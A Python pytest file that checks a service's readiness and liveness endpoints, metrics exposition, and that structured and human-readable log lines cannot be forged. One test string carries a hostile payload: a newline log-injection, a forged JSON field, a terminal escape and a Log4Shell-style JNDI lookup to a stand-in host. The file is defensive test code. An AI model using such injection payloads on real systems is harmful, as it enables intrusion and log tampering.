"""What every port and every log line owes its operator: health, metrics, and lines that nobody can forge."""

import asyncio
import contextlib
import io
import json
import logging
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest
import structlog

from app import health
from app import logging as lines
from app.health import Operations, Readiness
from app.metrics import Metrics

HOSTILE = 'Mozilla\n{"level": "forged"} \x1b[31m${jndi:ldap://evil.example/a} \u2028'


@dataclass
class Counts:
    clicks: int = 0
    waiting: int = field(default=0, metadata={"gauge": True})


def client(application: Any) -> httpx.AsyncClient:
    return httpx.AsyncClient(transport=httpx.ASGITransport(application), base_url="http://localhost")


async def answers() -> None:
    """A component that is there."""


async def refuses() -> None:
    raise ConnectionRefusedError("mongodb://user:secret@db.example refused")


async def hangs() -> None:
    await asyncio.Event().wait()


async def test_readiness_names_each_component_and_no_secret() -> None:
    operations = Operations(None, Readiness({"mongodb": refuses, "redis": answers}), Metrics("api"))
    async with client(operations) as http:
        response = await http.get("/readyz")
        assert response.status_code == 503
        assert response.json() == {
            "ready": False,
            "components": {"mongodb": "ConnectionRefusedError", "redis": "ok"},
        }
        assert (await http.get("/livez")).status_code == 200


async def test_a_silent_component_does_not_hold_up_the_probe(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(health, "CHECK_SECONDS", 0.05)
    async with asyncio.timeout(30):
        report = await Readiness({"mongodb": hangs}).report()
    assert report.components == {"mongodb": "no answer within 0.05 s"}


async def test_probing_often_asks_once_a_second() -> None:
    asked = 0
    now = 100.0

    async def count() -> None:
        nonlocal asked
        asked += 1

    readiness = Readiness({"mongodb": count}, clock=lambda: now)
    await asyncio.gather(*(readiness.report() for _ in range(50)))
    assert asked == 1
    now += health.CHECK_SECONDS
    await readiness.report()
    assert asked == 2


async def test_a_draining_process_is_not_ready_but_alive() -> None:
    readiness = Readiness({"mongodb": answers})
    readiness.drain()
    async with client(Operations(None, readiness, Metrics("api"))) as http:
        assert (await http.get("/readyz")).json() == {"ready": False, "components": {"process": "draining"}}
        assert (await http.get("/livez")).status_code == 200


async def test_operational_paths_are_read_only_and_the_rest_is_handed_on() -> None:
    async def application(scope: Any, receive: Any, send: Any) -> None:
        await send({"type": "http.response.start", "status": 418, "headers": []})
        await send({"type": "http.response.body", "body": b""})

    readiness = Readiness({})
    async with client(Operations(application, readiness, Metrics("api"))) as http:
        refused = await http.post("/metrics")
        assert (refused.status_code, refused.headers["allow"]) == (405, "GET, HEAD")
        assert (await http.head("/readyz")).content == b""
        assert (await http.get("/graphql")).status_code == 418
    async with client(Operations(None, readiness, Metrics("api"))) as http:
        assert (await http.get("/graphql")).status_code == 404


async def test_counts_become_counters_and_gauges() -> None:
    metrics, counts = Metrics("worker"), Counts(clicks=3)
    metrics.watch("worker", counts)
    metrics.flush()
    counts.clicks, counts.waiting = 5, 2
    text = metrics.exposition()[0].decode()
    samples = [line for line in text.splitlines() if not line.startswith("#")]
    assert samples == [
        'linkgraph_processes{role="worker"} 1.0',
        "linkgraph_worker_clicks_total 5.0",
        "linkgraph_worker_waiting 2.0",
    ]


@pytest.fixture
def captured() -> Iterator[io.StringIO]:
    """A stream that logs can be sent to; what pytest had set up comes back afterwards."""
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    try:
        yield io.StringIO()
    finally:
        root.handlers[:] = handlers
        root.setLevel(level)
        logging.getLogger("uvicorn.error").filters.clear()
        structlog.reset_defaults()


def test_json_lines_cannot_be_forged(captured: io.StringIO) -> None:
    """OP-05: one line per event, everything hostile inside its string."""
    lines.configure("redirect-1", stream=captured, readable=False)
    logging.getLogger("redirect").warning("agent %s", HOSTILE, extra={"slug": HOSTILE})
    structlog.get_logger("app").warning("edited", title=HOSTILE)
    first, second = captured.getvalue().splitlines()
    assert json.loads(first)["event"] == f"agent {HOSTILE}"
    assert json.loads(first)["slug"] == HOSTILE
    assert json.loads(second)["title"] == HOSTILE
    assert {json.loads(line)["role"] for line in (first, second)} == {"redirect-1"}
    assert "\x1b" not in captured.getvalue()


def test_lines_for_people_cannot_be_forged_either(captured: io.StringIO) -> None:
    """OP-05: a terminal's control characters are shown, not obeyed."""
    lines.configure("redirect-1", stream=captured, readable=True)
    logging.getLogger("redirect").warning("agent %s", HOSTILE)
    assert len(captured.getvalue().splitlines()) == 1
    assert "\x1b" not in captured.getvalue()
    assert r"\x1b[31m" in captured.getvalue()


def test_a_traceback_is_one_json_line(captured: io.StringIO) -> None:
    lines.configure("api-1", stream=captured, readable=False)
    with contextlib.suppress(ZeroDivisionError):
        try:
            _ = 1 / 0
        except ZeroDivisionError:
            logging.getLogger("api").exception("failed")
            raise
    (line,) = captured.getvalue().splitlines()
    assert "ZeroDivisionError" in json.loads(line)["exception"]


def test_strangers_cannot_fill_the_log(captured: io.StringIO) -> None:
    lines.configure("api-1", stream=captured, readable=False)
    for _ in range(100):
        logging.getLogger("uvicorn.error").warning("Invalid HTTP request received.")
    logging.getLogger("uvicorn.error").error("something else")
    assert len(captured.getvalue().splitlines()) == 2
